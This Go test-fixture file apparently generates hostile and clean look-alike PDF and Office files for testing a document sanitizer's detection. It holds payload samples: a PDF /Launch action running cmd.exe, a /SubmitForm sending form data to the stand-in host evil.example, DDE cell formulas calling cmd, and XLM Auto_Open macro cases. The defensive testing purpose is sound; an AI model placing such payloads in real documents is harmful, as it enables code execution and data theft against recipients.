package hostile

// Classes from real-world files (issue 9): what oletools and pdfid catch
// beyond the first hostile set, and clean look-alikes that must not raise
// an alarm. Numbered 0930 on.

// realWorld lists the classes of this file; All appends them.
func realWorld() []Case {
	return []Case{
		{"clean-pdf-destination", PDFDestination, "PDF with /OpenAction [3 0 R /XYZ null null 0] (a destination, as LibreOffice writes) and web links: no action"},
		{"pdf-launch-openaction", PDFLaunchOpenAction, "PDF whose /OpenAction is a /Launch action (cmd.exe)"},
		{"pdf-submitform", PDFSubmitForm, "PDF link annotation with a /SubmitForm action to a web address"},
		{"pdf-file-uri", PDFFileURI, "PDF link to file:// (a /URI action that is not a web address)"},
		{"pdf-attachment", PDFAttachment, "PDF with an EmbeddedFiles name tree holding payload.exe"},
		{"clean-doc-objectpool", DocEmptyObjectPool, "Word 97 .doc with an empty ObjectPool storage: no embedded object"},
		{"docm-no-vba", DocmWithoutVBA, "Macro-enabled .docm content type with no VBA project"},
		{"xls-xlm-macro", XLSMacroSheet, "BIFF8 BoundSheet of macro type (hidden) and built-in Auto_Open name"},
		{"xls-dde-link", XLSDDELink, "BIFF8 SupBook DDE link cmd|/c calc"},
		{"clean-xls", CleanXLS, "Plain BIFF8 workbook with one worksheet"},
		{"xlsm-xlm-macro", XLSMMacroSheet, "xl/macrosheets/sheet1.xml with EXEC and _xlnm.Auto_Open, no VBA"},
		{"slk-xlm-macro", SYLKMacro, "SYLK O;E macro sheet with EXEC"},
		{"slk-dde", SYLKDDE, "SYLK cell formula cmd|' /C calc'!A0"},
		{"csv-dde", CSVDDE, "CSV cell =cmd|'/c calc'!A0"},
		{"velvetsweatshop-xlsm", VelvetSweatshopXLSM, "Standard-encrypted (default password) workbook with an XLM macro sheet and Auto_Open"},
		{"velvetsweatshop-docm", VelvetSweatshopDocm, "Standard-encrypted (default password) .docm with AutoOpen VBA"},
		{"encrypted-other-password", OtherPasswordDocx, "Standard-encrypted with a password FG Desk does not know"},
		{"clean-doc97", Doc97, "Word 97 .doc with the FG header table in a table (cell and row marks), compressed and Unicode pieces"},
		{"doc97-review", Doc97Review, "Word 97 .doc with a tracked insertion (sprmCFRMarkIns) and two comments (PlcfandRef)"},
		{"doc97-dde", Doc97DDE, "Word 97 .doc with a DDEAUTO field (0x13 instruction 0x14 result 0x15)"},
		{"xlsx-comments", XLSXComments, "Workbook with a legacy note and a threaded comment (one comment, author Eve Reviewer)"},
		{"xlsx-web-query", XLSXConnections, "Workbook with a web-query connection and its query table"},
		{"pptx-comments", PPTXComments, "Presentation with a modern comment by Frank Speaker"},
		{"docx-frameset", DocxFrameset, "Word document made a frameset by word/webSettings.xml, frame from a server"},
		{"rtf-objautlink", RTFLinkedObject, "RTF with an automatically updated linked object (\\objautlink)"},
		{"xls-note", XLSNote, "BIFF8 NOTE record by Grace Auditor"},
		{"ppt-comment", PPTComment, "PowerPoint 97 Comment10Container by Heidi Presenter"},
		{"nested-zip-bomb", NestedZipBomb, "Zip nested five levels deep (recursion bomb)"},
		{"velvetsweatshop-xls", VelvetSweatshopXLS, "RC4 CryptoAPI .xls (default password) with a macro sheet and Auto_Open"},
		{"velvetsweatshop-xls-rc4", VelvetSweatshopXLSRC4, "RC4 .xls (default password) with a DDE link"},
		{"encrypted-xls-password", PasswordXLS, "RC4 CryptoAPI .xls with a password FG Desk does not know"},
		{"velvetsweatshop-agile", VelvetSweatshopAgileXLSM, "Agile-encrypted (AES-256, SHA-512, default password) workbook with an XLM macro sheet"},
	}
}

// PDFDestination is a clean PDF the way LibreOffice writes one: the
// catalog's /OpenAction is a destination array, the page has link
// annotations with /URI actions to web and mail addresses.
func PDFDestination() (string, []byte) {
	return name(30, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Lang (en-GB) >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R 6 0 R] >>",
		pdfContent,
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /Type /Action /S /URI /URI (https://www.itu.int/) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /Type /Action /S /URI /URI (mailto:tsbfginnovation@itu.int) >> >>",
	)
}

// PDFLaunchOpenAction launches a program when the PDF opens.
func PDFLaunchOpenAction() (string, []byte) {
	return name(31, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		pdfPage, pdfContent,
		"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
	)
}

// PDFSubmitForm sends the form's fields to a server when a link is used.
func PDFSubmitForm() (string, []byte) {
	return name(32, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R] >>",
		pdfContent,
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>",
	)
}

// PDFFileURI links to a local file.
func PDFFileURI() (string, []byte) {
	return name(33, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R] >>",
		pdfContent,
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
	)
}

// PDFAttachment carries a file in the EmbeddedFiles name tree.
func PDFAttachment() (string, []byte) {
	return name(34, ".pdf"), PDF(
		"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 5 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		pdfPage, pdfContent,
		"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>",
		StreamObj("/Type /EmbeddedFile", []byte("MZ not really a program")),
	)
}

// DocEmptyObjectPool is a Word 97 .doc as Word saves one: with an
// ObjectPool storage that holds no object.
func DocEmptyObjectPool() (string, []byte) {
	w := &Word97{Body: doc(35).HeaderParas()}
	return name(35, ".doc"), w.Bytes()
}

// DocmWithoutVBA has the macro-enabled main content type but no VBA.
func DocmWithoutVBA() (string, []byte) {
	d := doc(36)
	d.MacroEnabled = true
	return name(36, ".docm"), d.Bytes()
}

// benign lists the classes a fixer need not refuse: clean look-alikes
// that must raise no alarm (a LibreOffice PDF's open-at-page destination,
// an empty ObjectPool, a plain workbook, a Word 97 contribution), and
// files whose only trouble a clean re-save drops (comments, tracked
// changes, a DDE field of a .doc converted anew, a macro-enabled type
// without code).
var benign = map[string]bool{
	"clean-pdf-destination": true, "clean-doc-objectpool": true, "clean-xls": true, "clean-doc97": true,
	"docm-no-vba": true, "doc97-review": true, "doc97-dde": true,
	"xlsx-comments": true, "pptx-comments": true, "xls-note": true, "ppt-comment": true,
}

// Benign reports whether a class is benign (see benign).
func Benign(class string) bool { return benign[class] }
